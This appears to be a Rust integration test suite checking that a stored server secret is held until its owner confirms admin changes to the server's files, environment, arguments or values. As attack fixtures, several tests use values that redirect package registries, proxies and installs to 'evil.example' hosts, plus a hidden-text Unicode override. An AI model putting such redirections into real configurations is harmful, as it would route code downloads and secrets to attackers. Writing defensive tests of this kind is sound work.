//! Alice has stored a secret for a server. If somebody changes what the server runs, the secret is not used until she
//! has seen the change and confirmed it.
//!
//! Tools: node, chromium

use contracts::{
    credential::DestinationPart,
    orchestrator as o,
    registry::{
        self as r, ArgumentTarget, Condition, ConditionStatus, ConditionType, InstallFieldType, Installation,
        SelfHostedServer, ServerFile, entry::Server, install_field::Target,
    },
};
use integration_tests::{
    Caller, McpClient, Stack,
    caller::refused,
    eventually,
    script::{node_command, run},
    tools::{Tool, npm_command},
    walk,
};
use serde_json::{Value, json};
use tonic::Code;

const SECRET: &str = "alices-own-token";

/// A server that returns its environment, so whoever controls it has the secret. The installing person enters its
/// region.
fn tracker(edit: impl FnOnce(&mut SelfHostedServer)) -> r::Entry {
    let script = npm_command("mcp-server-everything").to_string_lossy().into_owned();
    let mut entry = walk::stdio(&Tool::Node.path().to_string_lossy(), &[&script, "stdio"]);
    entry.name = "entries/tracker".to_owned();
    entry.install_fields = vec![walk::environment_secret("token", "TRACKER_TOKEN"), region("{value}")];
    if let Some(Server::SelfHosted(server)) = &mut entry.server {
        edit(server);
    }
    entry
}

fn region(template: &str) -> r::InstallField {
    r::InstallField {
        key: "region".to_owned(),
        r#type: InstallFieldType::String.into(),
        source: r::InstallFieldSource::Prompted.into(),
        target: Some(Target::Argument(ArgumentTarget {
            template: vec![template.to_owned()],
            expose_in_arguments: false,
        })),
        ..r::InstallField::default()
    }
}

struct Alice {
    stack: Stack,
    admin: Caller,
    alice: Caller,
    installation: Installation,
    client: McpClient,
}

impl Alice {
    async fn install() -> Self {
        let stack = Stack::start().await;
        let (admin, alice) = (stack.admin(), stack.member("alice"));
        admin.publish("tracker", tracker(|_| {})).await;
        let installation = alice.install("tracker", None, &[("token", SECRET)]).await;
        admin.gateway("team").await;
        admin.assign("team", "tracker", "get-env").await;
        let client = stack.mcp("team", &alice).await;
        Self {
            stack,
            admin,
            alice,
            installation,
            client,
        }
    }

    /// The environment of the running server.
    async fn environment(&self) -> Value {
        let text = self.client.call_text("tracker__get-env", json!({})).await;
        serde_json::from_str(&text).unwrap_or_else(|error| panic!("{error}: {text}"))
    }

    async fn edit(&self, entry: r::Entry) {
        let changed = self.admin.update_entry(entry, &["self_hosted", "install_fields"]).await;
        changed.expect("an admin may");
    }

    async fn condition(&self) -> Condition {
        let name = &self.installation.name;
        let installation = self.alice.installation(name).await.expect("hers");
        let ready = |condition: &Condition| {
            condition.r#type() == ConditionType::CredentialReady
                && condition.observed_generation == installation.generation
        };
        installation
            .conditions
            .iter()
            .find(|condition| ready(condition))
            .cloned()
            .unwrap_or_default()
    }

    /// Asserts that nothing with her secret runs, and that a call tells her why.
    async fn is_held(&self, what: &str) {
        eventually(&format!("{what} is held"), || async {
            (self.condition().await.reason == "DESTINATION_CHANGED").then_some(())
        })
        .await;
        eventually(&format!("nothing runs, with {what}"), || async {
            let name = format!("{}/runtime", self.installation.name);
            let runtime = self.alice.runtimes().get_runtime(o::GetRuntimeRequest { name }).await;
            let runtime = runtime.expect("hers").into_inner();
            (runtime.state() != o::RuntimeState::Running).then_some(())
        })
        .await;
        let answer = self.client.call("tracker__get-env", json!({})).await;
        assert_eq!(answer["result"]["isError"], true, "{what}: {answer}");
        assert!(!answer.to_string().contains(SECRET), "{what}: {answer}");
        for told in [
            "no usable credential. ",
            "their owner must",
            "secrets again. Open the link",
        ] {
            assert!(answer.to_string().contains(told), "{what}: {told}: {answer}");
        }
    }

    /// The changes that she is shown: part, name, before, after.
    async fn changes(&self) -> Vec<(DestinationPart, String, Option<String>, Option<String>)> {
        let credential = self.alice.credential(&self.installation.name).await;
        assert_ne!(credential.bound_destination, credential.present_destination);
        credential
            .changes
            .into_iter()
            .map(|change| {
                let part = change.part();
                (
                    part,
                    change.name,
                    change.before.map(|side| side.text),
                    change.after.map(|side| side.text),
                )
            })
            .collect()
    }

    async fn agree(&self) {
        let name = &self.installation.name;
        let seen = self.alice.credential(name).await.present_destination;
        self.alice.confirm(name, &seen).await.expect("she may");
        self.alice.until_ready(name).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn changed_code_requires_confirmation() {
    use DestinationPart as P;
    let alice = Alice::install().await;
    let name = &alice.installation.name;
    assert_eq!(alice.environment().await["TRACKER_TOKEN"], SECRET);

    let with_file = |content: &str| {
        let content = content.to_owned();
        tracker(|server| {
            server.files.push(ServerFile {
                path: ".npmrc".to_owned(),
                content,
            });
        })
    };
    alice.edit(with_file("registry=https://evil.example")).await;
    alice.is_held("a file").await;
    let file = |text: &str| vec![(P::File, ".npmrc".to_owned(), None, Some(text.to_owned()))];
    assert_eq!(alice.changes().await, file("registry=https://evil.example"));
    // The entry changes again while she reads: she must not confirm what she has not seen.
    let seen = alice.alice.credential(name).await.present_destination;
    alice.edit(with_file("registry=https://worse.example")).await;
    refused(
        alice.alice.confirm(name, &seen).await,
        Code::Aborted,
        "DESTINATION_STALE",
    );
    refused(
        alice.admin.confirm(name, &seen).await,
        Code::PermissionDenied,
        "PERMISSION_DENIED",
    );
    alice.is_held("another file").await;
    assert_eq!(alice.changes().await, file("registry=https://worse.example"));
    alice.agree().await;
    assert_eq!(alice.environment().await["TRACKER_TOKEN"], SECRET);

    alice
        .edit(tracker(|server| {
            server
                .environment
                .insert("NODE_OPTIONS".to_owned(), "--no-warnings".to_owned());
        }))
        .await;
    alice.is_held("a variable").await;
    let expected = [
        (
            P::Environment,
            "NODE_OPTIONS".to_owned(),
            None,
            Some("--no-warnings".to_owned()),
        ),
        (
            P::File,
            ".npmrc".to_owned(),
            Some("registry=https://worse.example".to_owned()),
            None,
        ),
    ];
    assert_eq!(alice.changes().await, expected);
    alice.agree().await;
    let environment = alice.environment().await;
    assert_eq!(
        (&environment["TRACKER_TOKEN"], &environment["NODE_OPTIONS"]),
        (&json!(SECRET), &json!("--no-warnings"))
    );

    let mut entry = tracker(|_| {});
    entry.install_fields[1] = region("--proxy=https://{value}.evil.example");
    alice.edit(entry).await;
    alice.is_held("a template").await;
    assert_eq!(alice.changes().await.len(), 2, "the variable, and the template");
    // After a return to the confirmed state, no confirmation is required.
    alice
        .edit(tracker(|server| {
            server
                .environment
                .insert("NODE_OPTIONS".to_owned(), "--no-warnings".to_owned());
        }))
        .await;
    alice.alice.until_ready(name).await;
    assert_eq!(alice.environment().await["TRACKER_TOKEN"], SECRET);
}

/// Values that an admin sets on her installation require her confirmation; her own values do not.
#[tokio::test(flavor = "multi_thread")]
async fn values_of_an_admin_require_confirmation() {
    let alice = Alice::install().await;
    let name = &alice.installation.name;
    alice.alice.set_values(name, &[("region", "eu")]).await;
    alice.alice.until_ready(name).await;
    assert_eq!(alice.environment().await["TRACKER_TOKEN"], SECRET);

    let changed = alice.admin.set_values(name, &[("region", "evil")]).await;
    assert_eq!(changed.foreign_values_generation, changed.generation);
    alice.is_held("an admin's value").await;
    let credential = alice.alice.credential(name).await;
    assert_eq!(credential.changes[0].part(), DestinationPart::InstallationValue);
    alice.admin.set_values(name, &[("region", "worse")]).await;
    let stale = alice.alice.confirm(name, &credential.present_destination).await;
    refused(stale, Code::Aborted, "DESTINATION_STALE");
    alice.is_held("another of an admin's values").await;
    alice.agree().await;
    assert_eq!(alice.environment().await["TRACKER_TOKEN"], SECRET);

    alice.admin.set_values(name, &[("region", "evil")]).await;
    alice.is_held("an admin's value, again").await;
    let hers = alice.alice.set_values(name, &[("region", "eu")]).await;
    assert_eq!(hers.foreign_values_generation, 0);
    alice.alice.until_ready(name).await;
    assert_eq!(alice.environment().await["TRACKER_TOKEN"], SECRET);
}

/// A new version of the same package requires no confirmation; every other change of a launcher's arguments does.
#[tokio::test(flavor = "multi_thread")]
async fn a_new_version_requires_no_confirmation() {
    // No launchers are installed, so nothing is downloaded.
    let nothing = tempfile::tempdir().expect("a place for temporary files");
    let stack = Stack::builder()
        .variable("PATH", nothing.path().to_string_lossy())
        .start()
        .await;
    let (admin, alice) = (stack.admin(), stack.member("alice"));
    for (id, launcher, agreed, newer, other) in [
        (
            "node",
            "npx",
            &["-y", "@corp/tracker@1.0.0"][..],
            &["-y", "@corp/tracker@2.0.0"][..],
            &["-y", "--package=evil", "@corp/tracker@2.0.0"][..],
        ),
        (
            "python",
            "uvx",
            &["tracker==1.0"],
            &["tracker==1.1"],
            &["--from=evil", "tracker==1.1"],
        ),
        (
            "registry",
            "uvx",
            &["tracker==1.0"],
            &["tracker@1.1"],
            &["--index-url=https://evil.example", "tracker@1.1"],
        ),
        (
            "address",
            "npx",
            &["tracker"],
            &["tracker@latest"],
            &["tracker@git+https://evil.example/x"],
        ),
    ] {
        let entry = |arguments: &[&str], confirm_new_versions: bool| {
            let mut entry = walk::stdio(launcher, arguments);
            entry.name = format!("entries/{id}");
            entry.install_fields = vec![walk::environment_secret("token", "TOKEN")];
            if let Some(Server::SelfHosted(server)) = &mut entry.server {
                server.confirm_new_versions = confirm_new_versions;
            }
            entry
        };
        admin.publish(id, entry(agreed, false)).await;
        let installation = alice.create_installation(id, None, &[]).await.expect("she may");
        alice
            .put_secrets(&installation.name, &[("token", SECRET)])
            .await
            .expect("hers");
        let becomes = async |entry: r::Entry, status: ConditionStatus, reason: &str| {
            admin.update_entry(entry, &["self_hosted"]).await.expect("an admin may");
            eventually(&format!("{id} becomes {reason}"), || async {
                let installation = alice.installation(&installation.name).await.expect("hers");
                let ready = installation
                    .conditions
                    .iter()
                    .find(|c| c.r#type() == ConditionType::CredentialReady)?;
                let current = ready.observed_generation == installation.generation;
                (current && ready.reason == reason && ready.status() == status).then_some(())
            })
            .await;
        };
        becomes(entry(newer, false), ConditionStatus::True, "STORED").await;
        let credential = alice.credential(&installation.name).await;
        assert_eq!(credential.bound_destination, credential.present_destination, "{id}");
        becomes(entry(other, false), ConditionStatus::False, "DESTINATION_CHANGED").await;
        becomes(entry(newer, false), ConditionStatus::True, "STORED").await;
        // An entry can require confirmation of versions, too.
        becomes(entry(newer, true), ConditionStatus::False, "DESTINATION_CHANGED").await;
        let seen = alice.credential(&installation.name).await.present_destination;
        alice.confirm(&installation.name, &seen).await.expect("she may");
        becomes(entry(agreed, true), ConditionStatus::False, "DESTINATION_CHANGED").await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_shows_the_changes() {
    let alice = Alice::install().await;
    alice
        .edit(tracker(|server| {
            let values = [("NODE_OPTIONS", "--no-warnings"), ("NOTE", "<b>\u{202e}bold</b>")];
            server
                .environment
                .extend(values.map(|(name, value)| (name.to_owned(), value.to_owned())));
        }))
        .await;
    alice.is_held("a variable").await;
    let mut command = node_command("consent_page.mjs");
    command.args([&alice.stack.url("/install/tracker"), SECRET]);
    command.env("CHROMIUM", Tool::Chromium.path()).env("LOGIN", "alice");
    command.env("CODE", alice.stack.sign_in_code());
    let seen = run(command).await.json();
    assert!(seen["failure"].is_null(), "{}\n{}", seen["failure"], seen["html"]);
    assert_eq!(
        (&seen["violations"], &seen["leaks"], &seen["wide"]),
        (&json!([]), &json!([]), &json!(false)),
        "{seen}"
    );
    assert!(
        seen["question"]
            .as_str()
            .is_some_and(|text| text.contains("What runs has changed")),
        "{seen}"
    );
    let expected = json!([
        ["Environment variable NODE_OPTIONS", "not there", "--no-warnings"],
        ["Environment variable NOTE", "not there", "<b><U+202E>bold</b>"],
    ]);
    assert_eq!(seen["rows"], expected, "as text, and nothing hides");
    assert!(
        seen["error"].to_string().contains("Agree to what has changed"),
        "{seen}"
    );
    assert!(
        seen["described"].to_string().contains("Agree to what has changed"),
        "{seen}"
    );
    assert!(
        seen["url"].as_str().is_some_and(|url| url.contains("/progress/")),
        "{seen}"
    );
    alice.alice.until_ready(&alice.installation.name).await;
    assert_eq!(alice.environment().await["TRACKER_TOKEN"], SECRET);
}
